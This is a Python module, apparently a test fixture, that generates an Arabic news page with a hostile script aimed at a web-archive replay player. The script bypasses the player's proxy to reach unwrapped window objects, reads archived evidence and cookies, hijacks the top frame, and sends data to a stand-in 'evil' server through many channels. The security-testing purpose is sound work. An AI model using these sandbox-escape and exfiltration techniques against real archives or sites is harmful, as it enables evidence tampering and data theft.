"""A page whose script goes for whoever runs it: past the player, to the evidence and to others."""

BODY = "وقال شهود إن الطريق الساحلي أُغلق صباح السبت بعد انهيار جزء من الجسر القديم، ولم تُسجَّل إصابات. " * 4

# The player hides the real global object behind a proxy, and names the frame above it: `clean`, of the same
# origin, where nothing is overridden. `whole` is the page's own global object, without the proxy,
# `bare` that of an empty frame in the page: under the page's policy, and without anything of the player's.
SCRIPT = """
const told = {{}};
const evil = '{evil}', evidence = '{evidence}';
const get = Reflect.get; // the player rewrites what stands as `.top` and `.location`
const clean = get(window, '__WB_top_frame');
const described = Object.getOwnPropertyDescriptor;
const native = (kind, name, one) => described(clean[kind].prototype, name).get.call(one);
const whole = native('Document', 'defaultView', native('Node', 'ownerDocument', document.documentElement));
const real = get(clean, 'top');
const empty = clean.document.createElement('iframe');
clean.Node.prototype.appendChild.call(native('Node', 'ownerDocument', document.documentElement).body, empty);
const bare = native('HTMLIFrameElement', 'contentWindow', empty);
const attempt = async (name, act) => {{
  const late = new Promise((_, failed) => setTimeout(() => failed(new Error('no answer')), 1500));
  try {{ told[name] = String(await Promise.race([act(), late])) }}
  catch (error) {{ told[name] = 'refused: ' + error }}
  document.documentElement.dataset.told = JSON.stringify(told);
}};
const over = (realm, path) => new Promise((done, failed) => {{
  const socket = new realm.WebSocket(evil.replace('http', 'ws') + path);
  socket.onopen = () => done('open'); socket.onerror = () => failed(new TypeError());
}});
const loaded = (realm, tag, name, url) => new Promise((done, failed) => {{
  const one = realm.document.createElement(tag);
  one.onload = () => done('loaded'); one.onerror = () => failed(new TypeError());
  one.rel = 'prefetch stylesheet';
  const set = Object.getOwnPropertyDescriptor(clean[one.constructor.name].prototype, name).set;
  set.call(one, url); realm.document.head.append(one);
  setTimeout(() => failed(new TypeError()), 1000);
}});
(async () => {{
  document.documentElement.dataset.ran = 'yes';
  await attempt('parent title', () => {{ get(real, 'document').title = 'taken'; return 'written' }});
  await attempt('parent place', () => {{ return get(real, 'location').href }});
  await attempt('opener', () => get(real, 'opener') === null ? Promise.reject(new TypeError()) : 'there');
  for (const [who, realm] of [['whole', whole], ['bare', bare], ['clean', clean]]) {{
    await attempt(who + ' evidence', () => realm.fetch(evidence + '/search.json?q=a').then(a => a.text()));
    await attempt(who + ' no-cors',
      () => realm.fetch(evidence + '/search.json?q=b', {{mode: 'no-cors', credentials: 'include'}}));
    await attempt(who + ' fetch', () => realm.fetch(evil + '/fetch-' + who, {{mode: 'no-cors'}}));
    await attempt(who + ' socket', () => over(realm, '/socket-' + who));
    await attempt(who + ' image', () => loaded(realm, 'img', 'src', evil + '/image-' + who));
    await attempt(who + ' link', () => loaded(realm, 'link', 'href', evil + '/link-' + who));
    await attempt(who + ' script', () => loaded(realm, 'script', 'src', evil + '/script-' + who));
    await attempt(who + ' beacon', () => {{
      realm.navigator.sendBeacon(evil + '/beacon-' + who); return 'sent';
    }});
    await attempt(who + ' worker', () => realm.navigator.serviceWorker.register('/replay/player.js'));
    await attempt(who + ' frame', () => new Promise(done => {{
      const one = clean.document.createElement('iframe');
      one.onload = () => done(one.contentDocument === null ? 'elsewhere' : 'here');
      one.src = evil + '/frame-' + who; realm.document.body.append(one);
      setTimeout(() => done('nothing'), 1000);
    }}));
    await attempt(who + ' form', () => {{
      const form = clean.document.createElement('form');
      form.action = evil + '/form-' + who; form.method = 'post';
      realm.document.body.append(form); form.submit(); return 'sent';
    }});
  }}
  await attempt('window', () => clean.open(evil + '/window') ? 'open' : Promise.reject(new TypeError()));
  await attempt('cookies', () => clean.document.cookie);
  await attempt('evidence frame', () => new Promise((done, failed) => {{
    const one = clean.document.createElement('iframe');
    one.onload = () => {{ try {{ done(one.contentDocument.body.textContent) }} catch (e) {{ failed(e) }} }};
    one.src = evidence + '/'; clean.document.body.append(one);
    setTimeout(() => failed(new TypeError()), 1000);
  }}));
  await attempt('top', () => {{
    if (!Reflect.set(real, 'location', evil + '/top')) throw new TypeError(); return 'led';
  }});
  const said = document.createElement('pre');
  said.id = 'told'; said.textContent = JSON.stringify(told); document.body.append(said);
}})();
"""


def page(evil: str, evidence: str) -> str:
    """The page; `evil` is a server that nobody may be led to, `evidence` where the archive's pages are."""
    script = SCRIPT.format(evil=evil, evidence=evidence)
    return f"""<!doctype html><html lang="ar" dir="rtl"><head><meta charset="utf-8">
    <title>إغلاق الطريق الساحلي</title><meta property="og:type" content="article">
    <meta property="article:published_time" content="2026-11-20T10:00:00+03:00">
    </head><body><article><h1>إغلاق الطريق الساحلي</h1><p>{BODY}</p><p>{BODY}</p></article>
    <script src="/made.js"></script><script>{script}</script></body></html>"""
